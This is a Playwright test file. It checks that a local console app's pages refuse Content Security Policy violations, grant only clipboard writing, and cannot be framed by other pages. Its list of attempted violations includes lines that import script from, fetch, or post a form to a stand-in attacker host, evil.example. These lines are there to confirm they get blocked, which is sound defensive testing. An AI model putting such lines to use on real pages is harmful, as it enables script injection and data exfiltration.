/** The pages are held to a strict policy, and what breaks it is refused: each directive by somebody who tries. */
import { expect, test } from "@playwright/test";
import { openConsole } from "./console-page.ts";
import { startHost, temporaryFolder } from "./host-process.ts";
import { watchPolicy } from "./page-policy.ts";

/** A directive and what a page tries that it forbids, as an expression. */
const ATTEMPTS = [
  ["style-src-elem", `document.head.append(Object.assign(document.createElement("style"), { textContent: "body { color: red }" }))`],
  ["style-src-attr", `document.body.setAttribute("style", "color: red")`],
  ["script-src-elem", `import("https://evil.example/x.js")`],
  ["require-trusted-types-for", `document.createElement("div").innerHTML = "<b>planted</b>"`],
  // Objects as well, before object-src is asked.
  ["require-trusted-types-for", `document.createElement("embed").src = "/planted.pdf"`],
  ["trusted-types", `trustedTypes.createPolicy("planted", {})`],
  ["img-src", `new Image().src = "https://evil.example/x.png"`],
  ["connect-src", `fetch("https://evil.example/")`],
  ["frame-src", `document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }))`],
  ["media-src", `new Audio("/planted.mp3")`],
  ["base-uri", `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }))`],
  ["form-action", `document.body.appendChild(Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" })).submit()`],
] as const;

/** What reaches out of the page into this machine. */
const FEATURES = [
  "bluetooth",
  "camera",
  "clipboard-read",
  "clipboard-write",
  "display-capture",
  "geolocation",
  "hid",
  "idle-detection",
  "local-fonts",
  "microphone",
  "midi",
  "payment",
  "publickey-credentials-get",
  "serial",
  "usb",
  "window-management",
];

test("what a page must not do is refused, one by one", async ({ page }) => {
  const data = temporaryFolder();
  const host = await startHost("out/main/loopback.js", ["--no-open", "--data", data.path]);
  try {
    const refusals = await watchPolicy(page);
    const complaints: string[] = [];
    // Which features a browser knows depends on the machine: refusing one that it has not is no fault.
    page.on("console", (message) => void (message.text().includes("Unrecognized feature") || complaints.push(message.text())));
    await openConsole(page, host.address);
    // Styled all the same: the rules stand in elements that hold no text.
    await expect(page.getByRole("banner")).toHaveCSS("display", "flex");
    expect(refusals()).toEqual([]);
    expect(complaints).toEqual([]);
    for (const [directive, attempt] of ATTEMPTS) {
      const before = refusals().length;
      // What it threw is the browser's answer as well.
      await page.evaluate(attempt).catch(() => undefined);
      await expect.poll(() => refusals().slice(before), { message: directive }).toContainEqual(expect.stringMatching(new RegExp(`^${directive}( |$)`)));
    }
    expect(new URL(page.url()).hostname).toBe("127.0.0.1");
  } finally {
    await host.kill();
    data.remove();
  }
});

test("a page grants itself nothing of this machine but writing the clipboard, and no other page holds it", async ({ page, context }) => {
  const data = temporaryFolder();
  const host = await startHost("out/main/loopback.js", ["--no-open", "--data", data.path]);
  try {
    await openConsole(page, host.address);
    expect(await page.evaluate(`${JSON.stringify(FEATURES)}.filter((name) => document.featurePolicy.allowsFeature(name))`)).toEqual(["clipboard-write"]);
    expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
    const stranger = await context.newPage();
    const failed = stranger.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
    await stranger.setContent(`<iframe src="${new URL("/", host.address).href}"></iframe>`);
    await failed;
  } finally {
    await host.kill();
    data.remove();
  }
});
